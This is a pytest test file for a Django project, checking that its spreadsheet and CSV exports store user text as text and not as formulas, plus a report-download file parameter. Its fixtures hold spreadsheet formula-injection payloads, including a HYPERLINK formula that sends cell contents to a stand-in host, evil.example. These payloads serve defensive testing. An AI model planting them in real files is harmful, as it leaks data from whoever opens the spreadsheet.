"""Formula injection: a person's text in every xlsx and csv the project writes stays text.

A title ``=HYPERLINK("http://…","x")``, measures ``+…``, a department ``@…``, a material ``=1+2``:
opened with openpyxl, no cell is a formula ("f") and each reads exactly as typed; csv fields get
OWASP's leading ``'``, which the catalog import removes again. Also the report download's file
parameter (``?file=xlsx``): ``format`` belongs to DRF.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from core.exports import csv_field, csv_unescape, formula_like
from findings.models import Finding
from findings.reports import actions as report_actions
from findings.reports.data import ReportInput
from findings.reports.render import render_ledger_xlsx
from inspections.models import Walkthrough
from services.catalog_io import catalog_export, catalog_import
from services.models import Department, Material, ServiceItem, Step
from tests.conftest import api_client, make_item

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
HOSTILE = [LINK, "=1+2", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


def cells(content: bytes):
    """Every cell of every sheet of a workbook (full load: data types as stored)."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(content: bytes, expected: list[str]) -> None:
    all_cells = cells(content)
    assert not [c.coordinate for c in all_cells if c.data_type == "f"]
    by_value = {c.value: c for c in all_cells if isinstance(c.value, str)}
    for text in expected:
        assert text in by_value, text
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text


@pytest.fixture
def evil_department(region):
    return Department.objects.create(code="evil", name="@SUM(A1:A9)局", level="city", region=region)


@pytest.fixture
def evil_findings(office, evil_department):
    item = make_item(evil_department, "EV-1", name="-2+3事项")
    today = timezone.localdate()
    return [
        Finding.objects.create(department=evil_department, service_item=item, category="hotline", severity="major",
                               title=LINK, measures="+1+2 已整改", status="rectifying", due_date=today, created_by=office),
        Finding.objects.create(department=evil_department, service_item=item, category="guidance", severity="minor",
                               title="=1+2", measures="-删除材料", status="open", due_date=today, created_by=office),
    ]


# --- the rule --------------------------------------------------------------------------------------

def test_the_rule():
    for text in HOSTILE:
        assert formula_like(text) and csv_field(text) == "'" + text and csv_unescape(csv_field(text)) == text
    for value in ["普通文字", "a=b", "'quoted", 12, -3, None, ""]:
        assert not formula_like(value) and csv_field(value) == value and csv_unescape(value) == value
    assert csv_unescape("'普通") == "'普通"  # a quote before anything else is the person's own


# --- the ledger ---------------------------------------------------------------------------------------

def ledger_xlsx() -> bytes:
    out = io.BytesIO()
    render_ledger_xlsx(ReportInput(kind="ledger", findings=Finding.objects.all(), walkthroughs=Walkthrough.objects.all(),
                                   walkthrough=None, department=None, period_start=None, period_end=None,
                                   number="test", issued_on=timezone.localdate()), out)
    return out.getvalue()


def test_ledger_xlsx_writes_titles_measures_and_names_as_text(evil_findings):
    content = ledger_xlsx()
    assert_text_not_formula(content, [LINK, "=1+2", "+1+2 已整改", "-删除材料", "@SUM(A1:A9)局", "-2+3事项"])
    # the styles of the ledger are kept
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["D2"].value in (LINK, "=1+2") and sheet["D2"].alignment.wrap_text


# --- the dashboard ------------------------------------------------------------------------------------

def test_dashboard_exports_write_department_names_as_text(client, office, evil_findings):
    client.force_login(office)
    response = client.get(reverse("dashboard-export", args=["ranking"]))
    assert response.status_code == 200
    assert_text_not_formula(response.content, ["@SUM(A1:A9)局"])
    for table in ("categories", "statuses", "modes"):
        response = client.get(reverse("dashboard-export", args=[table]))
        assert response.status_code == 200 and not [c for c in cells(response.content) if c.data_type == "f"]


# --- the catalog -------------------------------------------------------------------------------------

@pytest.fixture
def evil_catalog(department_a):
    item = make_item(department_a, "EV-2", name="=1+2")
    make_item(department_a, "EV-3", name="+86 热线登记", intermediary="@备注")
    Material.objects.create(item=item, position=1, name="=1+2", note=LINK)
    Material.objects.create(item=item, position=2, name="-身份证", note="")
    Step.objects.create(item=item, position=1, name="@受理", handler="=窗口", time_limit_days=1)
    return item


def test_catalog_xlsx_export_is_text_and_round_trips(evil_catalog, tmp_path):
    path = tmp_path / "catalog.xlsx"
    with open(path, "wb") as fh:
        catalog_export(out=fh, fmt="xlsx")
    assert_text_not_formula(path.read_bytes(), ["=1+2", "+86 热线登记", "@备注", LINK, "-身份证", "@受理", "=窗口"])

    Material.objects.all().delete()
    Step.objects.all().delete()
    ServiceItem.objects.filter(code="EV-2").update(name="renamed")
    result = catalog_import(path=path)
    assert result.ok, result.errors
    assert ServiceItem.objects.get(code="EV-2").name == "=1+2"
    assert ServiceItem.objects.get(code="EV-3").name == "+86 热线登记"
    assert list(Material.objects.order_by("position").values_list("name", "note")) == [("=1+2", LINK), ("-身份证", "")]
    assert list(Step.objects.values_list("name", "handler")) == [("@受理", "=窗口")]


def test_catalog_csv_export_quotes_and_round_trips(evil_catalog, tmp_path):
    path = tmp_path / "catalog.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        catalog_export(out=fh, fmt="csv")
    rows = list(csv.reader(path.open(encoding="utf-8")))
    fields = [f for row in rows for f in row]
    assert "'=1+2" in fields and "'+86 热线登记" in fields and "'@备注" in fields
    assert not [f for f in fields if formula_like(f)]

    ServiceItem.objects.filter(code__in=["EV-2", "EV-3"]).update(name="renamed", intermediary="")
    result = catalog_import(path=path)
    assert result.ok, result.errors
    assert ServiceItem.objects.get(code="EV-2").name == "=1+2"
    assert ServiceItem.objects.get(code="EV-3").name == "+86 热线登记"
    assert ServiceItem.objects.get(code="EV-3").intermediary == "@备注"


def test_catalog_page_downloads(client, office, evil_catalog):
    client.force_login(office)
    response = client.get(reverse("catalog-export-csv"))
    text = response.content.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert "'=1+2" in fields and not [f for f in fields if formula_like(f)]
    response = client.get(reverse("catalog-export-xlsx"))
    assert_text_not_formula(response.content, ["=1+2", LINK])


# --- the report download: ?file= ------------------------------------------------------------------------

@pytest.fixture
def ledger_report(office, evil_findings):
    report = report_actions.report_request(actor=office, kind="ledger")
    report.pdf.save(f"ledger-test-{report.pk}.pdf", ContentFile(b"%PDF-1.4 test"), save=False)
    report.xlsx.save(f"ledger-test-{report.pk}.xlsx", ContentFile(ledger_xlsx()), save=False)
    report.status = "done"
    report.save()
    return report


def test_api_download_takes_file_xlsx(office, ledger_report):
    api = api_client(office)
    url = reverse("v1:report-download", args=[ledger_report.pk])
    response = api.get(url, {"file": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert_text_not_formula(b"".join(response.streaming_content), [LINK])
    response = api.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    assert api.get(url, {"file": "pdf"}).status_code == 200
    response = api.get(url, {"file": "docx"})
    assert response.status_code == 400 and "file" in response.json()
    # format stays DRF's renderer switch
    assert api.get(url, {"format": "xlsx"}).status_code == 404


def test_page_download_takes_file_xlsx_and_still_format(client, office, ledger_report):
    client.force_login(office)
    url = reverse("report-download", args=[ledger_report.pk])
    for query in ({"file": "xlsx"}, {"format": "xlsx"}):
        response = client.get(url, query)
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert_text_not_formula(b"".join(response.streaming_content), [LINK])
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"


def test_the_schema_documents_the_file_parameter(client):
    schema = client.get("/api/v1/schema/?format=json").json()
    download = schema["paths"]["/api/v1/reports/{id}/download/"]["get"]
    parameters = {p["name"]: p for p in download["parameters"]}
    assert parameters["file"]["schema"]["enum"] == ["pdf", "xlsx"] and "format" not in parameters
